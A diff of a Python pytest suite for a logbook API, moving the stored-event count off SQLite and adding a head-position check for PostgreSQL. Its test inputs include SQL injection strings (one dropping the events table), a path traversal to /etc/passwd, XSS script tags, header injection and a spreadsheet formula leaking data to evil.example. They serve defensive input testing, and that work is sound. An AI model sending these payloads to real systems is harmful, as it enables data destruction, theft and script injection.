@@ -18,9 +18,7 @@ from __future__ import annotations
 
 import itertools
 import json
-import sqlite3
 from collections.abc import Callable, Iterator
-from contextlib import closing
 from dataclasses import dataclass
 from typing import Any
 from urllib.parse import quote
@@ -30,8 +28,8 @@ import pytest
 import api.read_models
 from api.guard import MAX_BODY_BYTES
 from logbook.access import ALLOWED_ROLES
-from logbook.store import sqlite_path
 from projections.storage import encode_cursor
+from tests.stores import count_stored_events
 
 CALLERS = {"worker": "ann", "team_lead": "lena", "admin": "admin", "researcher": "rita"}
 """Who sends each request: the first whose role may perform it."""
@@ -48,7 +46,6 @@ INJECTIONS = {
     "sql drop table": "'; DROP TABLE stored_events; --",
     "sql or 1=1": '" OR 1=1 --',
     "path traversal": "../../etc/passwd",
-    "nul byte": "jonas\u0000k",
     "html script": "<script>alert('x')</script><img src=x onerror=alert(1)>",
     "csv formula": '=HYPERLINK("http://evil.example/?leak="&A1,"open")',
     "header injection": "a\r\nSet-Cookie: session=1",
@@ -60,8 +57,8 @@ INJECTIONS = {
 LONE_SURROGATE = "jonas\ud800"
 VERY_LONG_UNICODE = "\U0001d50d" * 3000
 """Over every text field's limit in characters, under the body's in bytes (12 per character, escaped)."""
-NOT_TEXT = {"lone surrogate": LONE_SURROGATE, "very long unicode": VERY_LONG_UNICODE}
-"""Refused by every text field: 422."""
+NOT_TEXT = {"lone surrogate": LONE_SURROGATE, "nul byte": "jonas\u0000k", "very long unicode": VERY_LONG_UNICODE}
+"""Refused by every text field: 422 (PostgreSQL's text cannot hold a NUL, and no one writes one)."""
 EVERY_PAYLOAD = INJECTIONS | NOT_TEXT
 
 
@@ -137,11 +134,13 @@ def query_endpoints(endpoints: list[Endpoint]) -> list[Endpoint]:
 # What every answer must be, and what the store must hold.
 
 def stored_events(world: Any) -> int:
-    """The rows of the store's `stored_events` table, read from its file (raises if the table is gone)."""
-    path = sqlite_path(world.app.extensions["logbook"].settings)
-    with closing(sqlite3.connect(f"file:{path}?mode=ro", uri=True)) as db:
-        (count,) = db.execute("SELECT COUNT(*) FROM stored_events").fetchone()
-    return int(count)
+    """The rows of the store's events table, read apart from the server (raises if the table is gone)."""
+    return count_stored_events(world.app.extensions["logbook"].settings)
+
+
+def head(world: Any) -> int:
+    """The position of the store's last event (on PostgreSQL, positions have gaps: it is not a count)."""
+    return int(world.app.extensions["logbook"].get().head_position())
 
 
 def refused(world: Any, response: Any, status: int | tuple[int, ...], code: str | None = None) -> dict[str, Any]:
@@ -521,14 +520,14 @@ def mentions(value: Any, text: str) -> bool:
 @pytest.mark.parametrize("field", list(TEXT_FIELDS.values()), ids=list(TEXT_FIELDS))
 def test_text_in_every_text_field_is_stored_and_shown_exactly_as_sent(world, field, text):
     arranged = field.arrange(world)
-    before = stored_events(world)
+    before, head_before = stored_events(world), head(world)
 
     response = field.write(world, arranged, text)
 
     assert response.status_code in (200, 201), response.get_data(as_text=True)[:500]
     assert stored_events(world) == world.events_in_store()
     if field.new_events is None:
-        assert before < response.get_json()["position"] <= stored_events(world)
+        assert head_before < response.get_json()["position"] <= head(world)
     else:
         assert stored_events(world) == before + field.new_events
     shown = field.read_back(world, arranged, response)
